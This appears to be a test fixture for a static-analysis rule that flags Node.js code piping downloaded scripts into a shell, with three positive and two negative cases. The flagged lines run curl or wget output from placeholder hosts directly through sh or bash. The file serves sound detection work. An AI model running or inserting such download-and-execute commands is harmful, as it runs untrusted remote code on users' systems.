const cp = require("child_process");
const { execSync, spawn } = require("child_process");

// ruleid: js-shell-download-pipe
cp.exec("curl -fsSL http://198.51.100.9/a.sh | sh");

// ruleid: js-shell-download-pipe
execSync("sh <(curl -s https://setup.example.com/x)");

// ruleid: js-shell-download-pipe
spawn("bash", ["-c", "wget -qO- https://setup.example.com/x | bash"]);

// ok: js-shell-download-pipe
execSync("curl -s https://api.example.com/v1 | jq .items");

// ok: js-shell-download-pipe
cp.exec("git pull --ff-only");
